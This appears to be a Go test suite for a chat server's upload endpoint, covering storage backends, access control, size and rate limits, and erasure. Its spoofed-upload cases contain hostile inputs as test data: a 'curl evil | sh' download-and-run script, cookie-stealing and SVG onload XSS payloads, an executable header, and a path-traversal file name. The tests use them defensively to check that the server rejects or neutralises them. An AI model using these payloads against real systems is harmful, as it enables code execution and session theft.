package server

import (
	"bytes"
	"encoding/json"
	"image"
	"image/png"
	"io"
	"io/fs"
	"mime/multipart"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/johannesboyne/gofakes3"
	"github.com/johannesboyne/gofakes3/backend/s3mem"

	"github.com/chatboxhq/chatbox/internal/llm/llmtest"
)

// uploadBackend is one place uploaded bytes can live, with a way for the
// test to count what is stored there.
type uploadBackend struct {
	name    string
	env     map[string]string
	objects func(t *testing.T) []string // keys or paths of every stored object
}

// localBackend keeps files under dir/uploads (the default).
func localBackend(dir string) uploadBackend {
	return uploadBackend{name: "local", env: map[string]string{}, objects: func(t *testing.T) []string {
		var out []string
		_ = filepath.WalkDir(filepath.Join(dir, "uploads"), func(path string, d fs.DirEntry, err error) error {
			if err == nil && !d.IsDir() {
				out = append(out, path)
			}
			return nil
		})
		return out
	}}
}

// s3Backend runs an in-process S3 server and points the instance at it as
// at MinIO: custom endpoint, path-style addressing.
func s3Backend(t *testing.T) uploadBackend {
	mem := s3mem.New()
	if err := mem.CreateBucket("chat-files"); err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(gofakes3.New(mem, gofakes3.WithLogger(gofakes3.DiscardLog())).Server())
	t.Cleanup(srv.Close)
	return uploadBackend{name: "s3", env: map[string]string{
		"S3_BUCKET": "chat-files", "S3_REGION": "eu-west-1", "S3_ENDPOINT": srv.URL, "S3_USE_PATH_STYLE": "true",
		"S3_ACCESS_KEY_ID": "test-access-key", "S3_SECRET_ACCESS_KEY": "test-secret-key",
	}, objects: func(t *testing.T) []string {
		list, err := mem.ListBucket("chat-files", nil, gofakes3.ListBucketPage{})
		if err != nil {
			t.Fatal(err)
		}
		var out []string
		for _, c := range list.Contents {
			out = append(out, c.Key)
		}
		return out
	}}
}

func pngImage(t testing.TB) []byte {
	var b bytes.Buffer
	if err := png.Encode(&b, image.NewRGBA(image.Rect(0, 0, 8, 8))); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// uploaded is the JSON answer of POST /chat/uploads, success or error.
type uploaded struct {
	FileID      string `json:"file_id"`
	Name        string `json:"name"`
	Size        int64  `json:"size"`
	ContentType string `json:"content_type"`
	Error       struct {
		Code    string `json:"code"`
		Message string `json:"message"`
	} `json:"error"`
}

// upload sends one file as multipart/form-data, as a browser form does.
func (in *instance) upload(tok, name string, data []byte) (int, uploaded) {
	in.t.Helper()
	var body bytes.Buffer
	w := multipart.NewWriter(&body)
	part, _ := w.CreateFormFile("file", name)
	_, _ = part.Write(data)
	_ = w.Close()
	return in.uploadRequest(tok, "", &body, w.FormDataContentType())
}

func (in *instance) uploadRequest(tok, query string, body io.Reader, contentType string) (int, uploaded) {
	in.t.Helper()
	req, _ := http.NewRequest(http.MethodPost, in.baseURL+"/uploads"+query, body)
	req.Header.Set("Authorization", "Bearer "+tok)
	req.Header.Set("Content-Type", contentType)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		in.t.Fatalf("upload: %v", err)
	}
	defer resp.Body.Close()
	var out uploaded
	if err := json.NewDecoder(resp.Body).Decode(&out); err != nil {
		in.t.Fatalf("upload answer (%s) is not JSON: %v", resp.Status, err)
	}
	return resp.StatusCode, out
}

// fetch downloads a file the way a browser would, following a redirect to
// the bucket, and returns the first response's headers and the bytes.
func (in *instance) fetch(tok, fileID string) (status int, first http.Header, body []byte) {
	in.t.Helper()
	noFollow := &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	req, _ := http.NewRequest(http.MethodGet, in.baseURL+"/uploads/"+fileID, nil)
	req.Header.Set("Authorization", "Bearer "+tok)
	resp, err := noFollow.Do(req)
	if err != nil {
		in.t.Fatal(err)
	}
	defer resp.Body.Close()
	first = resp.Header
	if resp.StatusCode == http.StatusFound {
		loc := resp.Header.Get("Location")
		redirected, err := http.Get(loc)
		if err != nil {
			in.t.Fatalf("follow %s: %v", loc, err)
		}
		defer redirected.Body.Close()
		body, _ = io.ReadAll(redirected.Body)
		if redirected.StatusCode != http.StatusOK {
			in.t.Fatalf("bucket answered the presigned URL with %s: %s", redirected.Status, body)
		}
		return resp.StatusCode, first, body
	}
	body, _ = io.ReadAll(resp.Body)
	return resp.StatusCode, first, body
}

// TestUploads runs the attachment promises against both blob stores: the
// local directory and an S3-compatible bucket (in-process gofakes3).
func TestUploads(t *testing.T) {
	for _, mk := range []func(t *testing.T, dir string) uploadBackend{
		func(t *testing.T, dir string) uploadBackend { return localBackend(dir) },
		func(t *testing.T, dir string) uploadBackend { return s3Backend(t) },
	} {
		dir := t.TempDir()
		b := mk(t, dir)
		t.Run(b.name, func(t *testing.T) { testUploads(t, dir, b) })
	}
}

func testUploads(t *testing.T, dir string, b uploadBackend) {
	llm := fakeLLM(t, llmtest.WithReply(func(req llmtest.Request) llmtest.Reply {
		return llmtest.Reply{Tokens: llmtest.Tokenize("I see it.")}
	}))
	env := map[string]string{
		"UPLOAD_MAX_BYTES": "65536", "UPLOAD_RATE_LIMIT_BURST": "100", "LLM_PROVIDER_1_VISION": "true",
	}
	for k, v := range b.env {
		env[k] = v
	}
	srv := start(t, testEnv(dir, llm.URL, env))
	aliceTok, bobTok, adminTok := token(t, "alice", time.Hour), token(t, "bob", time.Hour), adminToken(t, "root")
	shot := pngImage(t)

	// Upload: the type comes from the bytes, the name is kept for display.
	status, up := srv.upload(aliceTok, "screen shot.png", shot)
	if status != http.StatusCreated || up.FileID == "" || up.ContentType != "image/png" || up.Size != int64(len(shot)) || up.Name != "screen shot.png" {
		t.Fatalf("upload = %d %+v, want 201 with the file's id, image/png and %d bytes", status, up, len(shot))
	}

	// Attach: the acknowledged and stored message carries the file, and the
	// vision model receives the image itself.
	alice := srv.dial("alice")
	alice.send(map[string]any{"type": "user_message", "client_msg_id": "m1", "content": "what is wrong here?", "attachments": []string{up.FileID}})
	ack, _ := alice.until("message", func(f frame) bool { return f.str("client_msg_id") == "m1" })
	atts, _ := ack["attachments"].([]any)
	if len(atts) != 1 || atts[0].(map[string]any)["file_id"] != up.FileID || atts[0].(map[string]any)["content_type"] != "image/png" {
		t.Fatalf("ack attachments = %v, want the uploaded file", ack["attachments"])
	}
	sessionID := ack.str("session_id")
	if _, final := alice.reply(); final.str("content") != "I see it." {
		t.Errorf("reply = %v", final)
	}
	reqs, err := llm.WaitRequests(1, waitLimit)
	if err != nil {
		t.Fatal(err)
	}
	if body := string(reqs[0].Body); !strings.Contains(body, "data:image/png;base64,") || !strings.Contains(reqs[0].LastUser(), `[Attached image: "screen shot.png"`) {
		t.Errorf("the model did not get the image as input and by name: %s", body)
	}
	var history struct {
		Messages []struct {
			Attachments []struct {
				FileID string `json:"file_id"`
			} `json:"attachments"`
		} `json:"messages"`
	}
	if code := getJSON(t, srv.baseURL+"/sessions/"+sessionID+"/messages", aliceTok, &history); code != http.StatusOK ||
		len(history.Messages) == 0 || len(history.Messages[0].Attachments) != 1 || history.Messages[0].Attachments[0].FileID != up.FileID {
		t.Errorf("stored history = %d %+v, want the first message with its attachment", code, history)
	}

	// Fetch: the owner and an admin get the bytes (directly or through a
	// short-lived redirect), with safe headers; anyone else gets 404.
	for _, who := range []struct{ name, tok string }{{"owner", aliceTok}, {"admin", adminTok}} {
		code, h, body := srv.fetch(who.tok, up.FileID)
		if h.Get("X-Content-Type-Options") != "nosniff" {
			t.Errorf("%s fetch: X-Content-Type-Options = %q, want nosniff", who.name, h.Get("X-Content-Type-Options"))
		}
		if !bytes.Equal(body, shot) {
			t.Errorf("%s fetch: %d, %d bytes; want the file", who.name, code, len(body))
		}
		if code == http.StatusOK && (h.Get("Content-Type") != "image/png" || !strings.HasPrefix(h.Get("Content-Disposition"), "inline")) {
			t.Errorf("%s fetch: Content-Type %q, Content-Disposition %q; want image/png inline", who.name, h.Get("Content-Type"), h.Get("Content-Disposition"))
		}
		if code == http.StatusFound && !strings.Contains(h.Get("Location"), "X-Amz-Expires=") {
			t.Errorf("%s fetch: redirect to %s, want a presigned URL that expires", who.name, h.Get("Location"))
		}
	}
	if code, _, _ := srv.fetch(bobTok, up.FileID); code != http.StatusNotFound {
		t.Errorf("another user's fetch = %d, want 404", code)
	}
	if code, _, _ := srv.fetch(aliceTok, "no-such-file"); code != http.StatusNotFound {
		t.Errorf("unknown file = %d, want 404", code)
	}

	// Another user cannot send alice's file, nor can she send it twice.
	bob := srv.dial("bob")
	bob.send(map[string]any{"type": "user_message", "client_msg_id": "b1", "content": "mine now", "attachments": []string{up.FileID}})
	if f, _ := bob.until("error", nil); f.str("code") != "invalid_attachment" {
		t.Errorf("bob attaching alice's file: %v, want invalid_attachment", f)
	}
	alice.send(map[string]any{"type": "user_message", "client_msg_id": "m2", "session_id": sessionID, "content": "again", "attachments": []string{up.FileID}})
	if f, _ := alice.until("error", nil); f.str("code") != "invalid_attachment" {
		t.Errorf("sending a file twice: %v, want invalid_attachment", f)
	}

	// Refusals leave nothing behind.
	before := len(b.objects(t))
	big := append(pngImage(t), bytes.Repeat([]byte{0}, 200<<10)...)
	status, up2 := srv.upload(aliceTok, "big.png", big)
	if status != http.StatusRequestEntityTooLarge || up2.Error.Code != "too_large" || !strings.Contains(up2.Error.Message, "65536") {
		t.Errorf("oversize multipart upload = %d %+v, want 413 too_large naming the limit", status, up2)
	}
	// A raw body of unknown length is cut off while it streams.
	status, up2 = srv.uploadRequest(aliceTok, "?name=big.png", io.MultiReader(bytes.NewReader(big)), "application/octet-stream")
	if status != http.StatusRequestEntityTooLarge || up2.Error.Code != "too_large" {
		t.Errorf("oversize streamed upload = %d %+v, want 413 too_large", status, up2)
	}
	for _, spoof := range []struct{ name, content string }{
		{"cat.png", "#!/bin/sh\ncurl evil | sh\n"},
		{"notes.txt", "<html><script>alert(document.cookie)</script></html>"},
		{"logo.png", `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`},
		{"setup.pdf", "MZ\x90\x00\x03\x00\x00\x00"},
	} {
		status, up2 := srv.upload(aliceTok, spoof.name, []byte(spoof.content))
		if status != http.StatusUnsupportedMediaType || up2.Error.Code != "unsupported_type" {
			t.Errorf("spoofed %s = %d %+v, want 415 unsupported_type", spoof.name, status, up2)
		}
	}
	if after := b.objects(t); len(after) != before {
		t.Errorf("refused uploads left objects behind: %d before, now %v", before, after)
	}

	// A path in the name is display text only: the object key is random.
	status, up3 := srv.uploadRequest(aliceTok, "?name=..%2F..%2F..%2Fetc%2Fevil.txt", strings.NewReader("just text"), "text/plain")
	if status != http.StatusCreated || up3.Name != "evil.txt" || up3.ContentType != "text/plain; charset=utf-8" {
		t.Fatalf("path traversal name = %d %+v, want 201 named evil.txt", status, up3)
	}
	for _, obj := range b.objects(t) {
		if strings.Contains(obj, "evil") || !strings.Contains(obj, "uploads") {
			t.Errorf("stored object %q: keys must be random ids under uploads/", obj)
		}
	}
	if _, h, _ := srv.fetch(aliceTok, up3.FileID); !strings.HasPrefix(h.Get("Content-Disposition"), "attachment") && h.Get("Location") == "" {
		t.Errorf("text download Content-Disposition = %q, want attachment", h.Get("Content-Disposition"))
	}

	// Erasing the session deletes its files' bytes and records.
	if err := srv.app.uploads.EraseSessions(t.Context(), []string{sessionID}); err != nil {
		t.Fatal(err)
	}
	if code, _, _ := srv.fetch(aliceTok, up.FileID); code != http.StatusNotFound {
		t.Errorf("fetch after erasure = %d, want 404", code)
	}
	if err := srv.app.uploads.EraseUser(t.Context(), "alice"); err != nil {
		t.Fatal(err)
	}
	if left := b.objects(t); len(left) != 0 {
		t.Errorf("after erasing alice, objects remain: %v", left)
	}
}

// Each user's uploads are rate limited; the refusal says when to retry.
func TestUploadRateLimit(t *testing.T) {
	llm := fakeLLM(t)
	srv := start(t, testEnv(t.TempDir(), llm.URL, map[string]string{"UPLOAD_RATE_LIMIT_BURST": "1", "UPLOAD_RATE_LIMIT_PER_MINUTE": "1"}))
	tok := token(t, "alice", time.Hour)
	if status, _ := srv.upload(tok, "a.txt", []byte("one")); status != http.StatusCreated {
		t.Fatalf("first upload = %d", status)
	}
	status, out := srv.upload(tok, "b.txt", []byte("two"))
	if status != http.StatusTooManyRequests || out.Error.Code != "rate_limited" {
		t.Errorf("second upload = %d %+v, want 429 rate_limited", status, out)
	}
	if status, _ := srv.upload(token(t, "bob", time.Hour), "c.txt", []byte("three")); status != http.StatusCreated {
		t.Errorf("another user's upload = %d, want 201: limits are per user", status)
	}
}
